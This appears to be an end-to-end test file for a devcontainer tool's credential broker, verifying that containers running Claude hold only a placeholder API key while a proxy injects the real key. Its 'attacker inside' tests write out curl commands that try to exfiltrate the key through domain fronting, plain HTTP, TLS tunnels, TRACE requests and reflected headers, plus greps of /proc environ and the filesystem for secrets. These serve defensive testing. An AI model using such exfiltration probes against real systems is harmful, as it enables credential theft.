/**
 * The credential broker end to end, on the real engine: a config scaffolded with `--auth broker` for Claude,
 * brought up three times by the plain devcontainer CLI, with a fake key on the host and ANTHROPIC_BASE_URL
 * at a gateway in the test's own internet (HTTPS, test CA, reached through the policy). The real `claude -p`
 * inside gets its answer from the gateway, which receives the real key; the container, its image, its
 * logs and `docker inspect` hold only the placeholder. A remote MCP server's header secret (from the host's
 * MCP secrets file) is brokered the same way. Attacks run inside as the agent user (UID 1000).
 * Then a background task under `--auth broker` in one launched container, its gateway given by `--agent-env`
 * (the scripted model API on the host, over HTTPS with a certificate of the test CA), and an http:// gateway
 * refused before anything is created.
 */
import { spawnSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { agent, brokerOf } from "../../src/catalogue/agents.js";
import { BROKER_HOST_DIR, EGRESS_LABEL, enforcerName } from "../../src/egress/layout.js";
import { LABELS } from "../../src/labels.js";
import { inspectAll } from "../../src/engine/docker.js";
import type { Connection } from "../../src/egress/connection.js";
import { exec, inspect, remove, testHostEnv, up, type Container } from "../support/devcontainer.js";
import { BASE_IMAGE, docker, NODE_IMAGE } from "../support/docker.js";
import { cliArgs, runCli } from "../support/cli.js";
import { createInternet, hostAddress, ipCertificate, type Internet } from "../support/internet.js";
import { SCRIPTED_CONTENT, startModelApi } from "../support/model-api.js";
import { fixtureRepo } from "../support/scaffold.js";

const AGENT = "claude";
const KEY = `sk-ant-api03-realkey${randomBytes(12).toString("hex")}`;
const PLACEHOLDER = brokerOf(agent(AGENT))!.credentials.find((credential) => credential.env === "ANTHROPIC_API_KEY")!.placeholder;
const GATEWAY = "gateway.allowed.test";
const MCP_HOST = "mcp.allowed.test";
const MCP_SECRET = `mcp-secret-${randomBytes(12).toString("hex")}`;

let internet: Internet;
let base = "";
let env: NodeJS.ProcessEnv = {};
let home = "";
let repo = "";
let secrets = "";
const containers: Container[] = [];

function cli(args: string[]): string {
  const result = spawnSync(process.execPath, cliArgs(args), { env, encoding: "utf8", timeout: 10 * 60_000 });
  if (result.status !== 0) throw new Error(`${args.join(" ")} exited ${result.status}:\n${result.stderr.slice(-4000)}`);
  return result.stdout;
}

/** As the agent user, via the devcontainer CLI (the host's environment holds the real key: nothing may forward it). */
async function agentSh(container: Container, script: string, timeoutMs = 120_000): Promise<{ code: number; out: string }> {
  const result = await exec(container, ["bash", "-c", script], { env, timeoutMs });
  return { code: result.code, out: `${result.stdout}${result.stderr}` };
}

function rootSh(container: Container, script: string): string {
  const result = spawnSync("docker", ["exec", "-u", "0", container.id, "bash", "-c", script], { encoding: "utf8", timeout: 180_000, maxBuffer: 64 << 20 });
  return `${result.stdout}${result.stderr}`;
}

function egressId(container: Container): string {
  return ((inspect(container).Config as { Labels: Record<string, string> }).Labels[EGRESS_LABEL] ?? "").trim();
}

function connections(container: Container): Connection[] {
  return (JSON.parse(cli(["egress", container.id, "--json"])) as { connections: Connection[] }).connections;
}

const CURL = "curl -sS --max-time 20";
const CLAUDE = "timeout 100 claude -p 'say hi' </dev/null";

describe.skipIf(!inject("docker"))("credential broker (Claude, three containers, one host key)", () => {
  beforeAll(async () => {
    internet = createInternet({ baseImage: BASE_IMAGE, nodeImage: NODE_IMAGE });
    // The run's base trusts the test CA that signed the internet's servers.
    base = BASE_IMAGE;
    const host = testHostEnv();
    home = host.HOME!;
    env = {
      ...host,
      XDG_STATE_HOME: mkdtempSync(join(tmpdir(), `${internet.runId}-state-`)),
      CADC_EGRESS_NETWORK: internet.network,
      CADC_EGRESS_DNS: internet.dns,
      ANTHROPIC_API_KEY: KEY,
      ANTHROPIC_BASE_URL: `https://${GATEWAY}`,
    };
    repo = fixtureRepo(`broker-${internet.runId}`);
    mkdirSync(join(repo, ".devcontainer"));
    writeFileSync(join(repo, ".devcontainer", "mcp.toml"), `[mcp_servers.docs]\nurl = "https://${MCP_HOST}/mcp"\nheaders = { Authorization = "Bearer \${DOCS_TOKEN}" }\n`);
    // Committed: the container works in its own clone, where the MCP Feature reads the source.
    spawnSync("git", ["-C", repo, "add", ".devcontainer/mcp.toml"]);
    spawnSync("git", ["-C", repo, "-c", "user.name=t", "-c", "user.email=t@example.invalid", "commit", "-qm", "MCP source"]);
    secrets = join(env.XDG_STATE_HOME!, "mcp-secrets.env");
    writeFileSync(secrets, `DOCS_TOKEN=${MCP_SECRET}\n`, { mode: 0o600 });
    cli([repo, "--yes", "--agent", AGENT, "--auth", "broker", "--mcp-secrets", secrets, "--local-features", "--base-image", base, "--node-mirror", process.env.AGENT_DC_TEST_NODE_MIRROR!, "--egress", "allowlist", "--allow-host", "allowed.test"]);
    writeFileSync(join(repo, ".devcontainer", "egress.toml"), `allow = []\nprivate = ["${internet.subnet}"]\n`);
    const config = join(repo, ".devcontainer", AGENT, "devcontainer.json");
    // The first builds the image; the other two reuse it.
    containers.push(await up(repo, config, { env }));
    containers.push(...(await Promise.all([up(repo, config, { env }), up(repo, config, { env })])));
  });

  afterAll(() => {
    // Images stay for the files after this one (Docker's layer cache); the run's teardown removes them.
    for (const container of containers) remove(container);
    internet?.remove();
    if (env.XDG_STATE_HOME) rmSync(env.XDG_STATE_HOME, { recursive: true, force: true });
  });

  it("the real claude -p gets its answer from the gateway, which receives the real key (the container sends the placeholder)", async () => {
    const [first] = containers;
    expect((await agentSh(first!, "printenv ANTHROPIC_API_KEY ANTHROPIC_BASE_URL")).out.trim().split("\n")).toEqual([PLACEHOLDER, `https://${GATEWAY}`]);
    const run = await agentSh(first!, CLAUDE);
    expect(run.out).toContain("hello from allowed.test");
    const calls = internet.requests("allowed").filter((request) => request.headers.host === GATEWAY && request.url.startsWith("/v1/messages"));
    expect(calls.length).toBeGreaterThan(0);
    for (const call of calls) expect(call.headers["x-api-key"]).toBe(KEY);
    // The egress log marks the connection, by the variable's name only.
    const entry = connections(first!).find((connection) => connection.host === GATEWAY && connection.injected);
    expect(entry?.injected).toEqual(["ANTHROPIC_API_KEY"]);
    expect(docker("logs", enforcerName(egressId(first!)))).not.toContain(KEY);
  });

  it("a remote MCP server's header secret arrives at the server; the container holds a placeholder", async () => {
    const [first] = containers;
    expect((await agentSh(first!, "printenv DOCS_TOKEN; cat /run/agent-devcontainer/mcp-secrets.env")).out.trim()).toBe("cadc-broker-placeholder-DOCS_TOKEN");
    const since = internet.requests("allowed").length;
    const list = await agentSh(first!, "timeout 60 claude mcp list </dev/null");
    expect(list.out).toContain(`docs: https://${MCP_HOST}/mcp`);
    const calls = internet.requests("allowed").slice(since).filter((request) => request.headers.host === MCP_HOST);
    expect(calls.length, list.out).toBeGreaterThan(0);
    for (const call of calls) expect(call.headers.authorization).toBe(`Bearer ${MCP_SECRET}`);
    expect(connections(first!).some((connection) => connection.host === MCP_HOST && connection.injected?.includes("DOCS_TOKEN"))).toBe(true);
  });

  it("three containers of one agent authenticate at once with the one host key", async () => {
    const before = internet.requests("allowed").length;
    const runs = await Promise.all(containers.map((container) => agentSh(container, CLAUDE)));
    for (const run of runs) expect(run.out).toContain("hello from allowed.test");
    const calls = internet.requests("allowed").slice(before).filter((request) => request.headers.host === GATEWAY && request.url.startsWith("/v1/messages"));
    expect(calls.length).toBeGreaterThanOrEqual(3);
    for (const call of calls) expect(call.headers["x-api-key"]).toBe(KEY);
    for (const container of containers) expect(connections(container).some((connection) => connection.injected?.includes("ANTHROPIC_API_KEY"))).toBe(true);
  });

  it("the environment, every file, /proc/*/environ, docker inspect, the image's layers and the logs hold only the placeholder", () => {
    const [first] = containers;
    expect(JSON.stringify(inspect(first!))).not.toContain(KEY);
    expect(JSON.stringify(inspect(first!))).toContain(PLACEHOLDER);
    expect(rootSh(first!, `cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c '${PLACEHOLDER}'; cat /proc/[0-9]*/environ 2>/dev/null | grep -ac '${KEY}' || true`).trim().split("\n")).toEqual([expect.stringMatching(/^[1-9]/), "0"]);
    expect(rootSh(first!, `grep -rlaF -e '${KEY}' -e '${MCP_SECRET}' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev 2>/dev/null; echo scanned`).trim()).toBe("scanned");
    const logs = spawnSync("docker", ["logs", first!.id], { encoding: "utf8" });
    expect(`${logs.stdout}${logs.stderr}`).not.toContain(KEY);
    const image = (inspect(first!).Config as { Image: string }).Image;
    const layers = spawnSync("sh", ["-c", `docker image save ${image} | grep -caF '${KEY}'`], { encoding: "utf8", timeout: 300_000 });
    expect(layers.stdout.trim()).toBe("0");
    // Nor does the rendered config or anything else in the repository.
    expect(spawnSync("grep", ["-rlF", "-e", KEY, "-e", MCP_SECRET, repo, "--exclude-dir=.git"], { encoding: "utf8" }).status).toBe(1);
  }, 600_000);

  describe("an attacker inside (UID 1000) does not get the key", () => {
    const serverSaw = (since: number, url: string) => internet.requests("allowed").slice(since).filter((request) => request.url === url);

    it("a request carrying the placeholder to any other allowed host arrives without the key", async () => {
      const since = internet.requests("allowed").length;
      await agentSh(containers[0]!, `${CURL} -H "x-api-key: $ANTHROPIC_API_KEY" -H "authorization: Bearer $ANTHROPIC_API_KEY" https://allowed.test/other-host`);
      const seen = serverSaw(since, "/other-host");
      expect(seen).toHaveLength(1);
      expect(seen[0]!.headers["x-api-key"]).toBe(PLACEHOLDER);
      expect(JSON.stringify(seen)).not.toContain(KEY);
    });

    it("the gateway's name with another Host, plain HTTP, or SNI over a tunnel to another name gets no key", async () => {
      const since = internet.requests("allowed").length;
      const key = `-H "x-api-key: $ANTHROPIC_API_KEY"`;
      // Domain fronting: the CONNECT names the gateway, the request another host (a CDN would route it there).
      const fronted = await agentSh(containers[0]!, `${CURL} -o /dev/null -w '%{http_code}' ${key} -H 'Host: allowed.test' https://${GATEWAY}/fronted`);
      expect(fronted.out).toBe("421");
      // Plain HTTP to the gateway's name: forwarded as it is, never injected in clear.
      await agentSh(containers[0]!, `${CURL} ${key} http://${GATEWAY}/plain`);
      // A tunnel to allowed.test that speaks TLS for the gateway's name: only tunnelled, not terminated.
      await agentSh(containers[0]!, `${CURL} -k ${key} --connect-to ${GATEWAY}:443:allowed.test:443 https://${GATEWAY}/tunnel`);
      const seen = internet.requests("allowed").slice(since);
      expect(seen.map((request) => request.url)).not.toContain("/fronted");
      expect(seen.find((request) => request.url === "/plain")?.headers["x-api-key"]).toBe(PLACEHOLDER);
      expect(seen.find((request) => request.url === "/tunnel")?.headers["x-api-key"]).toBe(PLACEHOLDER);
      expect(JSON.stringify(seen)).not.toContain(KEY);
    });

    it("a reflecting upstream sees the placeholder everywhere but the declared header, and nothing it sends back carries the key", async () => {
      const since = internet.requests("allowed").length;
      const placeholder = "$ANTHROPIC_API_KEY";
      const everywhere = `-H "x-api-key: ${placeholder}" -H "authorization: Bearer ${placeholder}" -H "x-other: ${placeholder}" -H "cookie: k=${placeholder}" --data-binary "key=${placeholder}"`;
      // What the agent gets back: response headers and body, plain and gzip-encoded (which it did not ask for).
      const plain = await agentSh(containers[0]!, `${CURL} -D - ${everywhere} https://${GATEWAY}/reflect`);
      const gzip = await agentSh(containers[0]!, `${CURL} --compressed -D - ${everywhere} https://${GATEWAY}/reflect?gzip`);
      const seen = internet.requests("allowed").slice(since).filter((request) => request.url.startsWith("/reflect"));
      expect(seen).toHaveLength(2);
      for (const request of seen) {
        expect(request.headers["x-api-key"]).toBe(KEY);
        expect(request.headers.authorization).toBe(`Bearer ${PLACEHOLDER}`);
        expect(request.headers["x-other"]).toBe(PLACEHOLDER);
        expect(request.headers.cookie).toBe(`k=${PLACEHOLDER}`);
        const { "x-api-key": _declared, ...others } = request.headers;
        expect(JSON.stringify(others)).not.toContain(KEY);
      }
      for (const answer of [plain, gzip]) {
        // The upstream sent the key back (in x-reflect-x-api-key and the body): the agent got the placeholder.
        expect(answer.code, answer.out).toBe(0);
        expect(answer.out).toMatch(new RegExp(`^x-reflect-x-api-key: ${PLACEHOLDER}\\r?$`, "mi"));
        expect(answer.out).toContain(`"x-api-key":"${PLACEHOLDER}"`);
        expect(answer.out).toContain(`"body":"key=${PLACEHOLDER}"`);
        expect(answer.out).not.toContain(KEY);
      }
    });

    it("TRACE is refused, and so is an absolute-form target naming another host", async () => {
      const since = internet.requests("allowed").length;
      const key = `-H "x-api-key: $ANTHROPIC_API_KEY"`;
      const status = `-o /dev/null -w '%{http_code}'`;
      expect((await agentSh(containers[0]!, `${CURL} ${status} -X TRACE ${key} https://${GATEWAY}/trace`)).out).toBe("405");
      // Node's HTTP parser refuses TRACK before the enforcer sees it (an empty reply): refused either way, and
      // neither reaches the gateway (checked below).
      expect(["405", "000"]).toContain((await agentSh(containers[0]!, `${CURL} ${status} -X TRACK ${key} https://${GATEWAY}/track`)).out.slice(0, 3));
      // GET https://allowed.test/abs with Host: the gateway: a front end would route by the target.
      expect((await agentSh(containers[0]!, `${CURL} ${status} ${key} --request-target https://allowed.test/abs https://${GATEWAY}/`)).out).toBe("421");
      // The same form naming the gateway itself is served.
      expect((await agentSh(containers[0]!, `${CURL} ${status} ${key} --request-target https://${GATEWAY}/abs-same https://${GATEWAY}/`)).out).toBe("200");
      const urls = internet.requests("allowed").slice(since).map((request) => request.url);
      expect(urls).toEqual(["/abs-same"]);
    });

    it("finds neither the key nor the CA's private key anywhere it can read, and only these containers trust the CA", async () => {
      const caKey = readFileSync(join(home, BROKER_HOST_DIR, "ca.key"), "utf8").split("\n").find((line) => line.length > 40)!;
      const probe = await agentSh(
        containers[0]!,
        `env | grep -c '${KEY}'; cat /proc/*/environ 2>/dev/null | grep -ac '${KEY}'; grep -rlaF -e '${KEY}' -e '${caKey}' / --exclude-dir=proc --exclude-dir=sys 2>/dev/null | head -3; echo done`,
        300_000,
      );
      expect(probe.out.trim().split("\n")).toEqual(["0", "0", "done"]);
      // The CA's certificate is a read-only mount, not in the image.
      expect((await agentSh(containers[0]!, "echo x >> /run/agent-devcontainer/broker-ca.crt")).code).not.toBe(0);
      const image = (inspect(containers[0]!).Config as { Image: string }).Image;
      expect(spawnSync("docker", ["run", "--rm", "--entrypoint", "ls", image, "/run/agent-devcontainer/broker-ca.crt"]).status).not.toBe(0);
    }, 400_000);
  });

  describe("tasks and gateways given by --agent-env", () => {
    // The gateway comes from --agent-env only: the host's environment has the key and no base URL.
    const launchEnv = (): NodeJS.ProcessEnv => ({ ...env, ANTHROPIC_BASE_URL: undefined });
    const launchFlags = (): string[] => [
      "--agent", AGENT, "--auth", "broker", "--egress", "allowlist", "--mcp-secrets", secrets,
      "--local-features", "--base-image", base, "--node-mirror", process.env.AGENT_DC_TEST_NODE_MIRROR!,
    ];
    const launched = (name: string) => docker("ps", "-aq", "--filter", `label=${LABELS.launch}=${name}`);

    it("an http:// gateway under the broker is refused in one line before any container starts", async () => {
      const name = `${AGENT}-${repo.split("/").pop()}-plain`;
      const run = await runCli(["launch", repo, ...launchFlags(), "--branch", "plain", "--agent-env", "ANTHROPIC_BASE_URL=http://gateway.allowed.test", "--task", "create x.txt"], { env: launchEnv() });
      expect(run.code).toBe(1);
      expect(run.stderr).toBe(
        "create-agent-devcontainer: --agent-env ANTHROPIC_BASE_URL=http://gateway.allowed.test is not https://, so the broker cannot put claude's key into its requests: use an https:// URL, or --auth claude=token\n",
      );
      expect(launched(name)).toBe("");
      expect(existsSync(join(env.XDG_STATE_HOME!, "create-agent-devcontainer", "launch", name))).toBe(false);
    });

    it("a Claude task ends done through an https:// gateway given by --agent-env: the API gets the real key, the container holds the placeholder", async () => {
      const ip = hostAddress(internet);
      const api = await startModelApi(ip, ipCertificate(internet, ip));
      const name = `${AGENT}-${repo.split("/").pop()}-task`;
      // The task's commit takes the host's identity (launch copies it from the repository's config).
      spawnSync("git", ["-C", repo, "config", "user.name", "Host User"]);
      spawnSync("git", ["-C", repo, "config", "user.email", "host@example.invalid"]);
      let removed: Awaited<ReturnType<typeof runCli>> | undefined;
      try {
        const run = await runCli(
          ["launch", repo, ...launchFlags(), "--branch", "task", "--agent-env", `ANTHROPIC_BASE_URL=${api.url}`, "--agent-env", "CLAUDE_CODE_MAX_RETRIES=0", "--task", "create notes/brokered.txt", "--json"],
          // The launch's Feature build takes its turn at the engine's build lock, behind other files' builds.
          { env: launchEnv(), timeoutMs: 30 * 60_000 },
        );
        expect(run.code, run.stderr.slice(-3000)).toBe(0);
        const waited = await runCli(["wait", name], { env: launchEnv(), timeoutMs: 5 * 60_000 });
        expect(waited.stderr).toContain(`${name}: task 1 done`);
        expect(waited.code).toBe(0);
        const show = spawnSync("git", ["-C", repo, "show", `refs/heads/${AGENT}/task:notes/brokered.txt`], { encoding: "utf8" });
        expect(show.stdout).toBe(SCRIPTED_CONTENT);
        // The scripted API saw the real key on every request; never the placeholder.
        const messages = api.seen.filter((line) => line.startsWith("POST /v1/messages"));
        expect(messages.length).toBeGreaterThan(0);
        for (const line of messages) expect(line.endsWith(` ${KEY}`), line).toBe(true);
        expect(api.seen.join("\n")).not.toContain(PLACEHOLDER);
        // The container has the placeholder in its environment, and the key nowhere in its configuration.
        const id = launched(name);
        expect(spawnSync("docker", ["exec", id, "printenv", "ANTHROPIC_API_KEY"], { encoding: "utf8" }).stdout.trim()).toBe(PLACEHOLDER);
        expect(docker("inspect", id)).not.toContain(KEY);
        const egress = JSON.parse((await runCli(["egress", name, "--json"], { env: launchEnv() })).stdout) as { connections: Connection[] };
        expect(egress.connections.some((connection) => connection.host === ip && connection.injected?.includes("ANTHROPIC_API_KEY"))).toBe(true);
      } finally {
        if (launched(name)) removed = await runCli(["rm", "--force", "--keep-image", name], { env: launchEnv() });
        await api.close();
      }
      // rm reads every container on the engine; one another file removes meanwhile must not make it fail.
      expect(removed?.code, removed?.stderr).toBe(0);
      expect(launched(name)).toBe("");
    }, 40 * 60_000);
  });

  it("the lifecycle's inventory leaves out a container removed between listing and inspecting it", async () => {
    const inspected = await inspectAll<{ Id: string }>("container", [containers[0]!.id, `gone-${randomBytes(6).toString("hex")}`]);
    expect(inspected.map((container) => container.Id)).toEqual([containers[0]!.id]);
  });

  it("doctor shows broker mode and that the broker holds the key", () => {
    const report = JSON.parse(cli(["doctor", repo, "--json"])) as { agents: { id: string; mode: string; status: string; found: string[] }[] };
    const entry = report.agents.find((candidate) => candidate.id === AGENT);
    expect(entry).toMatchObject({ mode: "broker", status: "ready", found: ["$ANTHROPIC_API_KEY"] });
    expect(JSON.stringify(report)).not.toContain(KEY);
  });
});
